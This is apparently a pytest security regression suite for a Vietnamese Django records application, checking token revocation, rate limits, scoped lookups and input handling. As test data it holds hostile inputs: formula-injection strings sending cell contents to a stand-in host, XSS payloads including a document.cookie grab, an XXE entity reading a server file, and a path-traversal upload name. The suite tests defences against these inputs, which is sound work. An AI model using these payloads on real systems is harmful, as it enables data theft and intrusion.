"""What the attacker's list of docs/security.md found, each with the answer it gets now: a hand-
edited form or address is a 4xx in Vietnamese (never a 500), and nothing changes."""

import re

import pytest
from django.test import Client

from chuyende.common.actors import SYSTEM
from chuyende.common.models import AuditEntry
from chuyende.consultations.domain import create_draft
from chuyende.consultations.structure import parse_lines
from tests.consultations.helpers import consultation_for
from tests.documents.helpers import issued, sent_to_subtree, term_for
from tests.world import build_world

pytestmark = pytest.mark.django_db

# (a NUL character is refused before any view: test_a_nul_character_is_refused_…)
NOT_IDS = ["abc", "1e9", " ", "²", "-1", "0", "99999999999999999999999", "x" * 5000]


@pytest.fixture
def world():
    return build_world()


@pytest.fixture
def office(world):
    client = Client(raise_request_exception=False)
    client.force_login(world.users["clerk"])
    return client


def _post(client, url, data):
    entries = AuditEntry.objects.count()
    response = client.post(url, data)
    assert response.status_code < 500, (url, data, response.status_code)
    assert AuditEntry.objects.count() == entries, (url, data)
    return response


@pytest.mark.parametrize("value", NOT_IDS)
def test_reminders_for_a_dissemination_that_is_not_an_id_are_404(office, world, value):
    document = issued(world.committee, term_for(world.committee), world.users["secretary"].member)
    dissemination = sent_to_subtree(document)
    response = _post(office, f"/van-ban/{document.pk}/reminders/", {"dissemination": value})
    assert response.status_code == 404
    # the same office, the real id: the reminders are prepared
    response = office.post(f"/van-ban/{document.pk}/reminders/", {"dissemination": dissemination.pk})
    assert response.status_code == 302


@pytest.mark.parametrize("value", NOT_IDS)
def test_outbox_with_messages_that_are_not_ids_releases_nothing(office, world, value):
    response = _post(
        office, "/hop-thu-di/", {"organization": world.committee.pk, "message": [value], "confirmed": "1"}
    )
    assert response.status_code == 302
    assert "Đã duyệt 0 thư" in office.get("/hop-thu-di/").content.decode()


@pytest.mark.parametrize("value", NOT_IDS)
def test_unlocking_a_lockout_that_is_not_an_id_is_404(office, value):
    response = _post(office, "/khoa-dang-nhap/", {"lockout": value})
    assert response.status_code == 404


@pytest.mark.parametrize("value", NOT_IDS)
def test_linking_a_disposition_that_is_not_an_id_says_so(office, world, value):
    consultation = consultation_for(world)
    response = _post(office, f"/lay-y-kien/{consultation.pk}/xu-ly/", {"link": value})
    assert response.status_code == 302
    page = office.get(response["Location"]).content.decode()
    assert "Không tìm thấy kết quả xử lý hoặc phiên bản mới." in page


@pytest.mark.parametrize("value", NOT_IDS)
def test_saving_a_draft_version_that_is_not_an_id_keeps_the_text(office, world, value):
    draft = create_draft(
        actor=SYSTEM, organization=world.committee, title="Dự thảo", blocks=parse_lines(["Điều 1."])
    )
    response = _post(office, f"/du-thao/{draft.pk}/sua/", {"version": value, "text": "Điều 1. Văn bản gõ dở"})
    assert response.status_code == 400
    page = response.content.decode()
    assert "Không có phiên bản đang soạn." in page and "Điều 1. Văn bản gõ dở" in page


@pytest.mark.parametrize("value", NOT_IDS)
def test_a_role_form_with_a_member_that_is_not_an_id_says_so(office, world, value):
    response = _post(
        office, f"/to-chuc/{world.committee.pk}/vai-tro/", {"member": value, "role": "secretary"}
    )
    assert response.status_code == 400


@pytest.mark.parametrize("value", ["²", "abc", "99999999999999999999999"])
def test_tree_import_page_with_an_odd_organization_opens(office, value):
    assert office.get(f"/to-chuc/nhap-cay/?org={value}").status_code == 200


@pytest.mark.parametrize(
    "query",
    ["x" * 60_000, "Nguyễn " * 9_000, " ".join(f"a{n}" for n in range(5_000))],
    ids=["one-long-word", "many-long-words", "many-words"],
)
def test_a_huge_member_search_is_cut_not_a_server_error(office, world, query):
    """SQLite refuses a LIKE pattern past 50,000 bytes ("LIKE or GLOB pattern too complex")."""
    page = office.get("/dang-vien/", {"q": query})
    assert page.status_code == 200
    api = office.get("/api/members", {"q": query})
    expected = ["Nguyễn Đức Thành"] if query.startswith("Nguyễn") else []
    assert (api.status_code, [m["full_name"] for m in api.json()["items"]]) == (200, expected)
    role_page = office.post(f"/to-chuc/{world.committee.pk}/vai-tro/", {"q": query, "role": "secretary"})
    assert role_page.status_code < 500


def test_a_member_search_still_finds_by_its_first_words(office, world):
    def names(query):
        return [m["full_name"] for m in office.get("/api/members", {"q": query}).json()["items"]]

    assert names("huynh   ANH") == ["Huỳnh Thị Ngọc Ánh"]
    # ten words count, an eleventh is past the cut
    assert names("huynh " + "anh " * 9 + "khongco") == ["Huỳnh Thị Ngọc Ánh"]
    assert names("huynh " + "anh " * 8 + "khongco") == []


def _token(client, username, password):
    response = client.post(
        "/api/auth/token", {"username": username, "password": password}, content_type="application/json"
    )
    assert response.status_code == 201, response.content
    return response.json()["token"]


def _codes(issued):
    return {row.username: row.code for row in issued}


def test_a_password_reset_ends_the_api_tokens_taken_with_the_old_password(
    world, django_capture_on_commit_callbacks
):
    """Someone learnt dangvien's password and took a token; the member resets the password by
    e-mail: the taken token must stop working, not keep the account open."""
    import re

    from django.core import mail

    from chuyende.orgs.domain import accounts

    stolen = _token(Client(), "dangvien", "mat-khau-thu-nghiem")
    thief = Client()
    assert thief.get("/api/papers/", HTTP_AUTHORIZATION=f"Bearer {stolen}").status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        assert accounts.request_password_reset(identifier="dangvien", site_url="http://t") is True
    code = re.search(r"Mã: (\S+)", mail.outbox[0].body).group(1)
    accounts.activate_account(
        username="dangvien", code=code, password="Mat-khau-moi-2016", password_again=None
    )
    assert thief.get("/api/papers/", HTTP_AUTHORIZATION=f"Bearer {stolen}").status_code == 401
    entry = AuditEntry.objects.get(action="account.password_reset")
    assert entry.changes == {"username": "dangvien", "tokens_revoked": 1}
    fresh = _token(Client(), "dangvien", "Mat-khau-moi-2016")
    assert thief.get("/api/papers/", HTTP_AUTHORIZATION=f"Bearer {fresh}").status_code == 200


def test_the_office_resetting_a_login_ends_its_api_tokens(world):
    from chuyende.orgs.domain import accounts

    stolen = _token(Client(), "dangvien", "mat-khau-thu-nghiem")
    accounts.reset_account(actor=world.users["clerk"], member=world.member_a)
    assert Client().get("/api/papers/", HTTP_AUTHORIZATION=f"Bearer {stolen}").status_code == 401
    entry = AuditEntry.objects.get(action="account.reset")
    assert entry.changes == {"username": "dangvien", "tokens_revoked": 1}


def test_forgot_password_cannot_void_a_printed_activation_code(world):
    """The sheet's code of a login not yet activated must survive a stranger typing its user name
    (or the member's e-mail) on "Quên mật khẩu"; the page answers the same as for anyone."""
    from django.contrib.auth import authenticate

    from chuyende.common.models import OutboxMessage
    from chuyende.orgs.domain import accounts

    issued = _codes(accounts.issue_activation_codes(actor=world.users["clerk"], cell=world.cell_b))
    assert list(issued) == ["thangdv"]
    anonymous = Client()
    for identifier in ("thangdv", "thang@example.vn"):
        response = anonymous.post("/quen-mat-khau/", {"identifier": identifier})
        assert response.status_code == 200
    assert not OutboxMessage.objects.exists()
    accounts.activate_account(username="thangdv", code=issued["thangdv"], password="Mat-khau-rieng-2016")
    assert authenticate(username="thangdv", password="Mat-khau-rieng-2016") is not None


def test_forgot_password_answers_alike_for_known_and_unknown_accounts(world):
    anonymous = Client()
    pages = [
        anonymous.post("/quen-mat-khau/", {"identifier": identifier}).content.decode()
        for identifier in ("dangvien", "khong-co-ai", "anh@example.vn", "ai@dau.vn")
    ]
    masked = {re.sub(r"[A-Za-z0-9]{64}", "<csrf>", page) for page in pages}  # the tokens, masked per page
    assert len(masked) == 1


FORMULAS = ['=HYPERLINK("http://ke-gian.example/?"&A1,"Xem")', "+1+1", "-2+3", "@SUM(1)", "=1+1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_unit_named_like_a_formula_is_text_in_the_roll_up_workbook(world, name):
    """The roll-up XLSX lists the units by the names the office typed: none runs as a formula."""
    import io

    import openpyxl

    type(world.cell_b).objects.filter(pk=world.cell_b.pk).update(short_name=name)
    client = Client()
    client.force_login(world.users["secretary"])
    response = client.get(f"/cam-ket/tong-hop/{world.committee.pk}/?xlsx=1")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == name]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]


def test_safe_row_leaves_numbers_and_plain_text_alone():
    from openpyxl import Workbook

    from chuyende.common.exports import safe_row

    sheet = Workbook(write_only=True).create_sheet()
    row = safe_row(sheet, ["Chi bộ", 12, -3, 0.5, None, "=A1", "- gạch đầu dòng"])
    assert row[:5] == ["Chi bộ", 12, -3, 0.5, None]
    assert [(c.value, c.data_type, c.quotePrefix) for c in row[5:]] == [
        ("=A1", "s", True),
        ("- gạch đầu dòng", "s", True),
    ]


def test_a_comment_that_looks_like_a_formula_is_text_in_the_synthesis_workbook(world):
    import io

    import openpyxl

    from chuyende.consultations.domain import submit_comment
    from chuyende.consultations.enums import Stance
    from chuyende.consultations.synthesis.export import groups_xlsx

    consultation = consultation_for(world)
    text = '=HYPERLINK("http://ke-gian.example/?"&B2,"Xem chi tiết")'
    submit_comment(
        actor=world.users["member"],
        consultation=consultation,
        stance=Stance.AGREE,
        text=text,
        idempotency_key="k",
    )
    book = openpyxl.load_workbook(io.BytesIO(groups_xlsx(consultation)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]


PAYLOAD = '"><img src=x onerror=alert(1)><script>alert(2)</script>'


def test_markup_typed_into_text_fields_is_shown_as_text_on_every_page(world):
    """Stored XSS: names, titles, paper text, comments and search snippets carry markup; every
    page shows it escaped (autoescape; the search snippet, the one `|safe`, escapes in Python)."""
    from chuyende.archive.domain import index_item
    from chuyende.papers import domain as papers
    from tests.archive.helpers import item
    from tests.papers.helpers import key, submitted_paper

    type(world.member_a).objects.filter(pk=world.member_a.pk).update(full_name=f"Ánh {PAYLOAD}")
    type(world.cell_a).objects.filter(pk=world.cell_a.pk).update(short_name=f"Pháp chế {PAYLOAD}")
    target = submitted_paper(
        world, title=f"Tham luận {PAYLOAD}", text=f"# I. Mở đầu\n\nKỷ luật đảng {PAYLOAD}"
    )
    papers.add_comment(
        actor=world.users["cell_secretary"], paper=target, text=f"Góp ý {PAYLOAD}", idempotency_key=key()
    )
    index_item(item("doc:xss", world.cell_a, f"Kỷ luật đảng {PAYLOAD}"))
    client = Client()
    client.force_login(world.users["cell_secretary"])
    pages = [
        "/",
        "/dang-vien/",
        f"/dang-vien/{world.member_a.pk}/",
        f"/to-chuc/{world.cell_a.pk}/",
        "/tham-luan/",
        f"/tham-luan/{target.pk}/",
        "/luu-tru/tim/?q=ky+luat+dang",
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<img src=x" not in html and "<script>alert(2)" not in html, url
    search = client.get("/luu-tru/tim/?q=ky+luat+dang").content.decode()
    assert (
        "<mark>đảng</mark> “&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script" in search
    )


def _with_entities(data: bytes, member: str, marker: str, canary_path) -> bytes:
    """`data` (a DOCX/XLSX) with a DOCTYPE in `member` declaring an external entity (a file of the
    server) and an internal one, both used right after `marker`."""
    import io
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            raw = source.read(info.filename)
            if info.filename == member:
                text = raw.decode()
                head, rest = (
                    text.split("?>", 1) if "?>" in text else ("<?xml version='1.0' encoding='UTF-8'", text)
                )
                doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary_path.as_uri()}"><!ENTITY l "hahaha">]>'
                raw = (head + "?>" + doctype + rest.replace(marker, f"{marker} &e; &l;")).encode()
            archive.writestr(info.filename, raw)
    return out.getvalue()


def test_a_docx_with_external_entities_never_reads_the_servers_files(world, tmp_path):
    """XXE: a paper's DOCX names a file of the server in an entity; the file's text never reaches
    the paper (neither does an internal entity's)."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from chuyende.papers import domain as papers
    from chuyende.papers.models import PositionPaper
    from tests.papers.helpers import docx_upload, paper

    canary = tmp_path / "bi-mat.txt"
    canary.write_text("BI-MAT-CUA-MAY-CHU")
    target = paper(world)
    plain = docx_upload(lambda d: d.add_paragraph("Nội dung tải lên")).read()
    data = _with_entities(plain, "word/document.xml", "Nội dung tải lên", canary)
    papers.import_file(actor=world.users["member"], paper=target, version=target.version,
                       upload=SimpleUploadedFile("bai.docx", data))  # fmt: skip
    stored = repr(list(PositionPaper.objects.filter(pk=target.pk).values()))
    assert "Nội dung tải lên" in stored  # the file was read...
    assert "BI-MAT-CUA-MAY-CHU" not in stored and "hahaha" not in stored  # ...its entities were not


def test_an_xlsx_with_external_entities_never_reads_the_servers_files(world, tmp_path):
    import io

    import openpyxl

    from chuyende.orgs.domain import preview_member_import

    canary = tmp_path / "bi-mat.txt"
    canary.write_text("BI-MAT-CUA-MAY-CHU")
    book = openpyxl.Workbook()
    book.active.append(["Họ và tên", "Chi bộ"])
    book.active.append(["Lê Quang Vinh", "Phòng Nghiệp vụ Pháp chế"])
    buffer = io.BytesIO()
    book.save(buffer)
    data = _with_entities(buffer.getvalue(), "xl/worksheets/sheet1.xml", "Lê Quang Vinh", canary)
    preview = preview_member_import(actor=world.users["clerk"], organization=world.committee,
                                    file_name="ds.xlsx", content=data)  # fmt: skip
    assert "Lê Quang Vinh" in repr(preview.summary)
    assert "BI-MAT-CUA-MAY-CHU" not in repr(preview.summary) and "hahaha" not in repr(preview.summary)


@pytest.mark.parametrize(
    ("upload_name", "title", "served_type"),
    [
        ("../../../../tmp/lich-hop.pdf", "", "application/pdf"),
        ('tai"lieu <b>x</b>.docx', 'Tài liệu "họp"\r\nX-Chen: 1', None),
    ],
)
def test_an_uploaded_material_is_served_as_an_attachment_never_as_a_page(
    world, settings, upload_name, title, served_type
):
    """A polyglot (HTML inside a file named .pdf) and a name that climbs folders or carries quotes
    and line breaks: stored inside MEDIA_ROOT under a plain name, served as a download with its
    extension's type and nosniff, so no browser renders it as a page of the site."""
    from pathlib import Path

    from django.core.files.uploadedfile import SimpleUploadedFile

    from chuyende.meetings.models import Material
    from tests.papers.helpers import committee_meeting

    meeting = committee_meeting(world)
    client = Client()
    client.force_login(world.users["secretary"])
    polyglot = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>"
    response = client.post(
        f"/api/meetings/{meeting.pk}/materials",
        {"file": SimpleUploadedFile(upload_name, polyglot), "title": title},
    )
    assert response.status_code == 201, response.content
    material = Material.objects.get()
    stored = Path(material.file.path).resolve()
    assert stored.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    download = client.get(f"/api/meetings/materials/{material.pk}")
    assert download.status_code == 200
    disposition = download["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
    assert "X-Chen" not in download.headers
    assert download["Content-Type"] == (served_type or MATERIAL_DOCX)
    assert download["X-Content-Type-Options"] == "nosniff"


MATERIAL_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def test_forgot_password_mails_a_member_three_times_an_hour_at_most(
    world, django_capture_on_commit_callbacks
):
    """A stranger typing a member's user name again and again would flood the member's mailbox
    (and void each code just sent); past three an hour nothing more is sent, the page the same."""
    from datetime import timedelta

    from django.core import mail
    from django.utils import timezone

    from chuyende.orgs.models import AccountCode

    anonymous = Client()
    pages = set()
    for _ in range(6):
        with django_capture_on_commit_callbacks(execute=True):
            pages.add(anonymous.post("/quen-mat-khau/", {"identifier": "dangvien"}).status_code)
    assert pages == {200}
    assert len(mail.outbox) == 3
    assert AccountCode.objects.filter(user=world.users["member"], purpose="reset").count() == 3
    AccountCode.objects.update(created_at=timezone.now() - timedelta(hours=2))
    with django_capture_on_commit_callbacks(execute=True):
        anonymous.post("/quen-mat-khau/", {"identifier": "dangvien"})
    assert len(mail.outbox) == 4  # an hour later the member may ask again


@pytest.mark.parametrize("where", ["form", "query", "json", "multipart"])
def test_a_nul_character_is_refused_in_vietnamese_before_any_database(world, where):
    """PostgreSQL stores no NUL in text: the driver's refusal surfaced as "number out of range", a
    404 or a 500. Now it is a 400 that says what is wrong, and nothing is written."""
    client = Client(raise_request_exception=False)
    client.force_login(world.users["clerk"])
    message = "Dữ liệu gửi lên có ký tự NUL (mã 0), không lưu được. Hãy xoá ký tự này rồi gửi lại."
    entries = AuditEntry.objects.count()
    if where == "form":
        response = client.post(f"/to-chuc/{world.cell_a.pk}/sua/", {"name": "Chi bộ\x00", "short_name": "x"})
    elif where == "query":
        response = client.get("/dang-vien/", {"q": "Ánh\x00"})
    elif where == "json":
        response = client.patch(f"/api/organizations/{world.cell_a.pk}", {"short_name": "a\x00b"},
                                content_type="application/json")  # fmt: skip
    else:
        response = client.post(f"/api/organizations/{world.committee.pk}/member-imports",
                               {"file": __import__("io").BytesIO(b"x"), "note\x00": "y"})  # fmt: skip
    assert response.status_code == 400
    body = response.content.decode()
    if where in ("json", "multipart"):
        assert response.json() == {"detail": message}
    else:
        assert message in body
    assert AuditEntry.objects.count() == entries
    world.cell_a.refresh_from_db()
    assert "\x00" not in world.cell_a.name + world.cell_a.short_name


def test_the_session_agenda_page_finds_only_papers_the_user_sees(world):
    """Ids of papers elsewhere posted to the committee's agenda: the page looked them up unscoped
    and the domain's refusal named them ("Bài “…” không thuộc chi bộ…"): a title leak. Now the
    page uses the API's scoped lookup: 404, nothing named, nothing saved."""
    from tests.papers.helpers import committee_meeting, paper, submitted_paper

    meeting = committee_meeting(world)
    own = submitted_paper(world)
    secret = paper(world, cell=world.cell_x, actor=world.users["outsider"], title="Bài kín của Sở Tư pháp")
    client = Client()
    client.force_login(world.users["secretary"])
    url = f"/sinh-hoat/{meeting.pk}/tham-luan/"
    entries = AuditEntry.objects.count()
    for posted in ([secret.pk], [own.pk, secret.pk]):
        response = client.post(url, {"action": "agenda", "paper": posted})
        assert response.status_code == 404, posted
        assert "Bài kín của Sở Tư pháp" not in response.content.decode()
    assert (meeting.paper_agenda.count(), AuditEntry.objects.count()) == (0, entries)
    assert client.post(url, {"action": "agenda", "paper": ["abc"]}).status_code == 302  # not an id: left out
    response = client.post(url, {"action": "agenda", "paper": [own.pk]})
    assert response.status_code == 302
    assert list(meeting.paper_agenda.values_list("paper_id", flat=True)) == [own.pk]


def test_a_refused_consultation_form_names_only_members_the_office_may_pick(world):
    """Member ids typed into the "open a consultation" form come back as ticked names when the
    form is refused: only those the form may choose, never a member of another committee."""
    from tests.consultations.helpers import published_draft

    draft, _version = published_draft(world.committee)
    client = Client()
    client.force_login(world.users["clerk"])
    response = client.post(
        f"/du-thao/{draft.pk}/lay-y-kien/", {"title": "", "members": [world.member_x.pk, world.member_b.pk]}
    )
    page = response.content.decode()
    assert "Đoàn Văn Thắng" in page  # a member of the committee: kept ticked
    assert "Trần Thị Xuân" not in page  # a member of another committee: not named


def test_an_archive_search_of_thousands_of_words_reads_the_first_ones_once(db):
    """`/api/archive/search?q=` takes the query as typed: a word repeated 1,500 times cost a worker
    about a second. The search reads 200 characters and each word once, with the same results."""
    from django.db.models import Q

    from chuyende.archive.domain import index_item
    from chuyende.archive.search import search
    from tests import factories as f
    from tests.archive.helpers import item

    organization = f.organization(name="Đảng bộ Cơ quan Văn phòng")
    index_item(item("doc:1", organization, "Siết chặt kỷ luật, kỷ cương của Đảng."))
    everything = ~Q(pk__in=[])
    plain = [(h.item_key, h.snippet) for h in search("kỷ luật Đảng", scope=everything)]
    assert plain == [(h.item_key, h.snippet) for h in search("kỷ luật Đảng " * 1500, scope=everything)]
    assert search("kỷ luật " * 30 + "khongcotrongvanban", scope=everything) != []  # past 200 characters


def test_guessing_the_old_password_on_the_change_page_counts_like_wrong_logins(world):
    """A borrowed session (a computer left signed in) must not guess the password without limit
    on "Đổi mật khẩu": wrong old passwords count like wrong logins and lock the account."""
    from chuyende.common.models import LoginLockout

    client = Client()
    client.force_login(world.users["member"])
    wrong = {
        "old_password": "doan-mo",
        "new_password1": "Mat-khau-moi-2016",
        "new_password2": "Mat-khau-moi-2016",
    }
    for _ in range(5):
        assert client.post("/doi-mat-khau/", wrong).status_code == 200  # the form again
    assert list(LoginLockout.objects.values_list("kind", "key")) == [("account", "dangvien")]
    right = wrong | {"old_password": "mat-khau-thu-nghiem"}
    page = client.post("/doi-mat-khau/", right).content.decode()
    assert "Đăng nhập tạm khoá vì nhập sai mật khẩu nhiều lần." in page  # locked: even the right one waits
    world.users["member"].refresh_from_db()
    assert world.users["member"].check_password("mat-khau-thu-nghiem")
    assert not AuditEntry.objects.filter(action="account.password_change").exists()


def test_changing_the_password_is_audited_and_ends_the_api_tokens(world):
    stolen = _token(Client(), "dangvien", "mat-khau-thu-nghiem")
    client = Client()
    client.force_login(world.users["member"])
    response = client.post(
        "/doi-mat-khau/",
        {
            "old_password": "mat-khau-thu-nghiem",
            "new_password1": "Mat-khau-moi-2016",
            "new_password2": "Mat-khau-moi-2016",
        },
    )
    assert (response.status_code, response["Location"]) == (302, "/doi-mat-khau/xong/")
    assert client.get("/").status_code == 200  # this session stays signed in
    entry = AuditEntry.objects.get(action="account.password_change")
    assert (entry.actor_label, entry.changes) == ("dangvien", {"username": "dangvien", "tokens_revoked": 1})
    assert Client().get("/api/papers/", HTTP_AUTHORIZATION=f"Bearer {stolen}").status_code == 401


def test_guessing_activation_codes_from_one_address_locks_the_address_not_the_account(world):
    """Twenty wrong codes from one address (any user names) lock that address, on the page and the
    API alike; the right code from another address still works, and the account's login was
    never locked (the code is how its owner gets back in)."""
    from chuyende.common.models import LoginLockout
    from chuyende.orgs.domain import accounts

    code = _codes(accounts.issue_activation_codes(actor=world.users["clerk"], cell=world.cell_b))["thangdv"]
    guesser = Client()
    for n in range(20):
        data = {
            "username": "thangdv" if n % 2 else f"khongco{n}",
            "code": f"AAAAA-{n:05d}",
            "password1": "x",
            "password2": "x",
        }
        assert guesser.post("/kich-hoat/", data, REMOTE_ADDR="10.6.6.6").status_code == 400
    assert list(LoginLockout.objects.values_list("kind", "key")) == [("address", "10.6.6.6")]
    locked = "Đăng nhập tạm khoá vì nhập sai mật khẩu nhiều lần."
    page = guesser.post("/kich-hoat/", {"username": "thangdv", "code": code, "password1": "Mat-khau-rieng-2016",
                                        "password2": "Mat-khau-rieng-2016"}, REMOTE_ADDR="10.6.6.6")  # fmt: skip
    assert locked in page.content.decode()
    api = guesser.post("/api/accounts/activate", {"username": "thangdv", "code": code, "password": "Mat-khau-rieng-2016"},
                       content_type="application/json", REMOTE_ADDR="10.6.6.6")  # fmt: skip
    assert api.status_code == 429 and locked in api.json()["detail"]
    member = Client()
    response = member.post("/kich-hoat/", {"username": "thangdv", "code": code, "password1": "Mat-khau-rieng-2016",
                                           "password2": "Mat-khau-rieng-2016"}, REMOTE_ADDR="10.7.7.7")  # fmt: skip
    assert response.status_code == 302
